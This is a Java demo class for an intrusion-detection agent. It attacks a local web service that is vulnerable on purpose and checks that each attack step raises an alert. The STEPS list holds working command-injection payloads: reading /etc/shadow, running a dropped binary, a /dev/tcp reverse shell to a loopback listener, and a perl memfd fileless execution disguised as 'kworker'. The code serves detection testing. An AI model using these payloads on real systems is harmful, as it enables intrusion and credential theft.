package dev.vigil.demo;

import dev.vigil.agent.Agent;
import dev.vigil.alert.Alert;
import dev.vigil.alert.AlertOutput;
import dev.vigil.alert.AlertPipeline;
import dev.vigil.alert.AlertText;
import dev.vigil.alert.Metrics;
import dev.vigil.config.AgentConfig;
import dev.vigil.host.Cgroups;
import dev.vigil.profile.Dimension;
import dev.vigil.profile.WorkloadProfile;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.PrintStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * `vigil demo`: a small multi-threaded web service of vigil's own (vigil-webapp, with a
 * command-injection flaw on purpose) runs in a cgroup of its own under steady traffic; the
 * agent learns its workload profile until stable, watches it run unchanged, then the
 * service is attacked in steps, and each step is named by an alert as it happens; a
 * summary at the end. Owns the service, the traffic, the agent and the cgroup; close
 * removes them all.
 */
public final class AttackDemo implements AutoCloseable {
    /** One attack step: what it does in words, and the injected text after "localhost;". */
    public record Step(String what, String injected) {}

    /** The attack, step by step; PORT is the attacker's listener, MEMFD memfd_create's number on this machine. */
    public static final List<Step> STEPS = List.of(
            new Step("discovery: who am I, what is this machine", "id;uname -a"),
            new Step("credential access: read /etc/shadow", "cat /etc/shadow"),
            new Step("a binary dropped in /tmp and run", "cp /bin/true /tmp/.vigil-demo-dropper;/tmp/.vigil-demo-dropper"),
            new Step("a reverse shell: bash connects out to the attacker", "bash -c 'echo id > /dev/tcp/127.0.0.1/PORT'"),
            new Step("fileless: a program written to memory (memfd) and run from there",
                    "perl -e '$n=\"x\";$f=syscall(MEMFD,$n,0);open(I,\"</bin/true\");sysread(I,$b,1e7);open(O,\">&=$f\");syswrite(O,$b);"
                            + "exec{\"/proc/self/fd/$f\"}\"kworker\"'"));

    /** A step's injected text for this run. */
    String injected(Step s) {
        return s.injected().replace("PORT", Integer.toString(attackerPort))
                .replace("MEMFD", Integer.toString(dev.vigil.syscall.SyscallTable.host().number("memfd_create").orElse(-1)));
    }

    public record Result(Duration learning, int learnt, long normalSeconds, int falseAlarms, List<StepResult> steps) {}

    /** firstAlert: from the request carrying the step to the first alert reaching the outputs. */
    public record StepResult(Step step, List<Alert> alerts, Duration firstAlert) {
        public boolean detected() { return !alerts.isEmpty(); }
    }

    private final PrintStream out;
    private final Path cgroup, dir;
    private Process service;
    private Agent agent;
    private Thread agentThread, trafficThread;
    private final AtomicBoolean stop = new AtomicBoolean(), trafficStop = new AtomicBoolean();
    private final LinkedBlockingQueue<Alert> alerts = new LinkedBlockingQueue<>();
    /** When each alert reached the demo (after the agent's grouping window), by identity. */
    private final Map<Alert, Instant> received = java.util.Collections.synchronizedMap(new java.util.IdentityHashMap<>());
    private final AtomicLong requests = new AtomicLong();
    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
    private int port, attackerPort;
    private String workload;
    private java.net.ServerSocket attacker;

    public AttackDemo(PrintStream out) throws IOException {
        this.out = out;
        this.dir = Files.createTempDirectory("vigil-demo-");
        this.cgroup = Cgroups.root().resolve("vigil-demo-" + ProcessHandle.current().pid());
    }

    /** Runs the whole demo: learn (at most maxLearn), normalSeconds unchanged, then the attack steps. */
    public Result run(Duration maxLearn, int normalSeconds) throws Exception {
        Path bin = dir.resolve("vigil-webapp");
        try (InputStream in = AttackDemo.class.getResourceAsStream("/dev/vigil/native/vigil-webapp")) {
            if (in == null) throw new IllegalStateException("vigil-webapp is not in the jar (rebuild vigil)");
            Files.copy(in, bin, StandardCopyOption.REPLACE_EXISTING);
        }
        Files.setPosixFilePermissions(bin, PosixFilePermissions.fromString("rwx------"));
        Files.createDirectories(cgroup);
        if (!Files.exists(cgroup.resolve("cgroup.procs"))) throw new IllegalStateException(cgroup + " is not a cgroup v2 folder (is cgroup2 mounted?)");
        try (var s = new java.net.ServerSocket(0)) {
            port = s.getLocalPort();
        }
        // the attacker's listener for the reverse shell: accepts and hangs up
        attacker = new java.net.ServerSocket(0, 5, java.net.InetAddress.getLoopbackAddress());
        attackerPort = attacker.getLocalPort();
        Thread.ofPlatform().name("vigil-demo-attacker").daemon().start(() -> {
            while (!attacker.isClosed()) {
                try (var c = attacker.accept()) {
                    c.getInputStream().readNBytes(64);
                } catch (IOException e) {
                    return;
                }
            }
        });
        workload = "cgroup:/" + cgroup.getFileName() + " " + bin.getFileName();

        // the agent: workload profiles only, fast learning, every alert to the screen and to the demo
        AgentConfig d = AgentConfig.defaults();
        AgentConfig cfg = new AgentConfig("", d.host(), dir.resolve("state"), new AgentConfig.Sequence(false, List.of(), 9, 1, 1, 12, 16, 16, Duration.ofSeconds(60),
                "/sys/fs/bpf/vigil-demo-" + ProcessHandle.current().pid()),
                new AgentConfig.Profiles(true, new Dimension.Learning(Duration.ZERO, Duration.ofSeconds(6), 5000, Duration.ofMinutes(10), 2000), 100, Duration.ZERO,
                        AgentConfig.Profiles.IGNORE), List.of("exec"), d.filters(), new AlertPipeline.Limits(Duration.ofMinutes(10), 0, 0, 1000),
                List.of(), null, List.of());
        agent = new Agent(cfg, new PrintStream(java.io.OutputStream.nullOutputStream()), List.of(new Collecting()));
        agentThread = Thread.ofPlatform().name("vigil-demo-agent").daemon().start(() -> {
            try {
                agent.run(Metrics.none(), stop::get, null);
            } catch (Exception e) {
                out.println("[demo] the agent failed: " + e.getMessage());
            }
        });
        Thread.sleep(2500); // the exec collector attached

        say("phase 1/3: the service (%s, 4 threads: /, /time runs date, /lookup runs getent through a shell) starts in its own cgroup", bin.getFileName());
        service = new ProcessBuilder("/bin/sh", "-c", "echo $$ > " + cgroup.resolve("cgroup.procs") + " && exec " + bin + " " + port)
                .redirectError(ProcessBuilder.Redirect.DISCARD).start();
        String ready = new BufferedReader(new InputStreamReader(service.getInputStream())).readLine();
        if (ready == null || !ready.startsWith("ready")) throw new IllegalStateException("the demo service did not start");
        trafficThread = Thread.ofPlatform().name("vigil-demo-traffic").daemon().start(this::traffic);
        say("steady traffic: about 15 requests a second to /, /time, /stats and /lookup?host=localhost|example.org; the agent learns ...");
        Instant start = Instant.now();
        // learnt when the programs, files, network, high-risk calls and system calls it uses are all stable
        Map<String, Alert> stable = new java.util.LinkedHashMap<>();
        List<String> needed = WorkloadProfile.DIMENSIONS;
        while (!stable.keySet().containsAll(needed) && Duration.between(start, Instant.now()).compareTo(maxLearn) < 0) {
            Alert a = alerts.poll(500, TimeUnit.MILLISECONDS);
            if (a != null && mine(a) && a.kind().equals("profile_state") && "stable".equals(a.evidence().get("state"))) {
                stable.put(String.valueOf(a.evidence().get("dimension")), a);
            }
        }
        if (!stable.keySet().containsAll(needed)) {
            throw new IllegalStateException("the profile did not become stable in " + maxLearn.toSeconds() + " s (stable: " + stable.keySet() + ")");
        }
        Duration learning = Duration.between(start, Instant.now());
        int learnt = stable.values().stream().mapToInt(a -> ((Number) a.evidence().get("learnt_items")).intValue()).sum();
        say("learnt in %.1f s:", learning.toMillis() / 1000.0);
        for (Alert a : stable.values()) out.println("  " + a.summary());

        say("phase 2/3: the same traffic for %d s; nothing should be alerted", normalSeconds);
        alerts.clear();
        Thread.sleep(normalSeconds * 1000L);
        List<Alert> normal = drain(0).stream().filter(this::mine).toList();
        for (Alert a : normal) out.println("  FALSE ALARM " + AlertText.line(a));
        say("%d alerts in %d s of unchanged traffic (%,d requests so far)", normal.size(), normalSeconds, requests.get());

        say("phase 3/3: the attacker injects commands through /lookup?host=localhost;...");
        List<StepResult> results = new ArrayList<>();
        for (Step s : STEPS) {
            alerts.clear();
            out.printf(Locale.ROOT, "%n[demo] attack: %s   (host=localhost;%s)%n", s.what(), injected(s));
            Instant t0 = Instant.now();
            get("/lookup?host=" + URLEncoder.encode("localhost;" + injected(s), StandardCharsets.UTF_8));
            List<Alert> got = drain(2000).stream().filter(a -> mine(a) && a.kind().equals("anomaly")).toList();
            for (Alert a : got) out.println("  " + a.severity() + " " + a.summary());
            if (got.isEmpty()) out.println("  (no alert)");
            results.add(new StepResult(s, got, got.isEmpty() ? null : Duration.between(t0, received.getOrDefault(got.getFirst(), got.getFirst().time()))));
        }
        return new Result(learning, learnt, normalSeconds, normal.size(), results);
    }

    private boolean mine(Alert a) { return a.profile() != null && a.profile().key().equals(workload); }

    /** Alerts that come within a quiet period of waitMs (at least 1 s once one came). */
    private List<Alert> drain(long waitMs) throws InterruptedException {
        List<Alert> got = new ArrayList<>();
        long until = System.nanoTime() + waitMs * 1_000_000L;
        alerts.drainTo(got);
        while (System.nanoTime() < until) {
            Alert a = alerts.poll(100, TimeUnit.MILLISECONDS);
            if (a != null) {
                got.add(a);
                until = Math.max(until, System.nanoTime() + 1_000_000_000L);
            }
        }
        return got;
    }

    private void traffic() {
        String[] paths = {"/", "/time", "/stats", "/lookup?host=localhost", "/lookup?host=example.org"};
        java.util.Random rnd = new java.util.Random(42);
        while (!trafficStop.get()) {
            get(paths[rnd.nextInt(paths.length)]);
            try {
                Thread.sleep(40 + rnd.nextInt(60));
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private void get(String path) {
        try {
            http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path)).timeout(Duration.ofSeconds(5)).build(),
                    HttpResponse.BodyHandlers.discarding());
            requests.incrementAndGet();
        } catch (IOException e) {
            // the service is busy or gone: the next request tries again
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    /** Every alert of the demo's agent: to the demo's queue. */
    private final class Collecting implements AlertOutput {
        public String name() { return "demo"; }
        public void send(Alert a) {
            received.put(a, Instant.now());
            alerts.add(a);
        }
        public Map<String, Long> counts() { return Map.of("sent", 0L, "failed", 0L, "dropped", 0L); }
        public void close() { }
    }

    private void say(String fmt, Object... args) {
        out.println("[demo] " + String.format(Locale.ROOT, fmt, args));
    }

    @Override
    public void close() {
        trafficStop.set(true);
        if (attacker != null) {
            try {
                attacker.close();
            } catch (IOException ignored) {
                // closing
            }
        }
        if (trafficThread != null) trafficThread.interrupt();
        if (service != null) {
            service.destroy();
            try {
                if (!service.waitFor(5, TimeUnit.SECONDS)) service.destroyForcibly();
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }
        stop.set(true);
        try {
            if (agentThread != null) agentThread.join(10_000);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        if (agent != null) agent.close();
        http.close();
        for (int i = 0; i < 50 && Files.exists(cgroup); i++) {
            try {
                Files.delete(cgroup);
            } catch (IOException busy) {
                try {
                    Thread.sleep(100);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                    break;
                }
            }
        }
        try (var files = Files.walk(dir)) {
            files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
        } catch (IOException ignored) {
            // a temporary folder left behind
        }
        try {
            Files.deleteIfExists(Path.of("/tmp/.vigil-demo-dropper"));
        } catch (IOException ignored) {
            // left behind
        }
    }
}
